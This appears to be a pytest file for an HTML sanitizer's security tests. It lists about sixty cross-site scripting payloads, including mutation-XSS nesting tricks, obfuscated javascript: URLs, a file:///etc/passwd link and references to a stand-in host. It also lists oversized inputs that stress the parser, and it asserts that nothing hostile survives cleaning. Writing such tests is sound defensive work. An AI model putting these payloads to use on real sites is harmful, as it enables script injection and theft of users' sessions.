"""Hostile HTML: nothing runs, nothing is fetched, nothing takes long."""

import re
import time

import pytest
from lxml import html as markup

from gongkai.documents.rich_text import allowed, clean, plain, problems

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt src=//e.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='/files/a'/onerror=alert(1)>",
    '<img src="/files/a" alt="x" onload="alert(1)">',
    '<img src="/files/a\"onerror=alert(1) x="">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><im"
    "g title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img"
    " src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext>"
    "<style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' \u00a0javascript:alert(1)'>x</a>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://a/b'>x</a><a href='file:///etc/passwd'>x</a>",
    "<a href='\\\\e.example\\x'>x</a>",
    "<img src='javascript:alert(1)'><img src='/files/x' srcset='http://e.example/x 2x' alt=x>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'http://e.example/x.css'; p{background:url(http://e.example)}</style><p>x",
    "<link rel=stylesheet href=http://e.example/x.css><m"
    "eta http-equiv=refresh content='0;url=javascript:1'>",
    "<base href='http://e.example/'><a href='x'>x</a>",
    "<form action=http://e.example><input name=password><button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><p>x",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<table background=javascript:alert(1)><td background='javascript:alert(1)'>x",
    "<a href=/x id=location name=cookie>x</a><p id=body name=x>x",
    "<p>x</p onmouseover=alert(1)><b onmouseover=alert(1)",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel='--></st"
    "yle></template></select><img src onerror=alert(1)>'>",
    "<b><p><i><table><a><td><svg><desc><div><p><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<img src='/files/a' alt='<img src=x onerror=alert(1)>'>",
]  # fmt: skip
_ADDRESS = re.compile(r"(?:https?://|mailto:|tel:|[/#?.\w][^:]*$)", re.IGNORECASE)


def nodes(made: str) -> list[markup.HtmlElement]:
    """The elements that a browser would find, read by another parser than the one that cleans."""
    return list(markup.fragment_fromstring(made, create_parent="div").iter())[1:] if made else []


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "<p>{}</p>", "<table><tr><td>{}", "<ul><li>{}", "<a href=/x>{}"]
)
def test_nothing_hostile_is_left(attack: str, around: str) -> None:
    made = clean(around.replace("{}", attack), image_prefixes=("/files/",))
    for node in nodes(made):
        assert node.tag in allowed.BLOCKS | allowed.INLINE
        assert set(node.attrib) <= {"href", "rel", "src", "alt", "scope", "colspan", "rowspan",
                                    "start", "class"}  # fmt: skip
        if node.get("href") is not None:
            assert _ADDRESS.match(node.get("href", ""))
        assert node.get("src", "/files/").startswith("/files/")
    assert clean(made, image_prefixes=("/files/",)) == made
    plain(made)
    problems(around.replace("{}", attack))


HEAVY = {
    "divisions within divisions": "<div>" * 1_000_000,
    "marks within marks": "<b><i>" * 200_000,
    "tables within tables": "<table><tr><td>" * 60_000,
    "drawings within drawings": "<svg>" * 200_000,
    "signs that open nothing": "<" * 2_000_000,
    "signs that close nothing": ">" * 2_000_000,
    "tags that never end": "<a " * 600_000,
    "attributes without end": "<p " + "a=1 " * 300_000 + ">x",
    "ampersands": "&" * 1_000_000,
    "remarks that never end": "<!--" * 500_000,
    "blanks": "&nbsp;" * 300_000,
    "one long address": "<a href='" + "a:" * 500_000 + "'>x</a>",
}  # fmt: skip


@pytest.mark.parametrize("case", HEAVY)
def test_heavy_input_is_done_with_in_time(case: str) -> None:
    begun = time.process_time()
    clean(HEAVY[case])
    problems(HEAVY[case])
    assert time.process_time() - begun < 20


def test_the_words_of_what_is_too_deep_are_kept() -> None:
    assert clean("<div>" * 500 + "公告</div><p>第二段") == "<p>公告</p>\n<p>第二段</p>"


def test_without_an_allowed_beginning_no_picture_is_kept() -> None:
    assert clean('<img src="/files/a.png" alt="x">文') == "<p>文</p>"
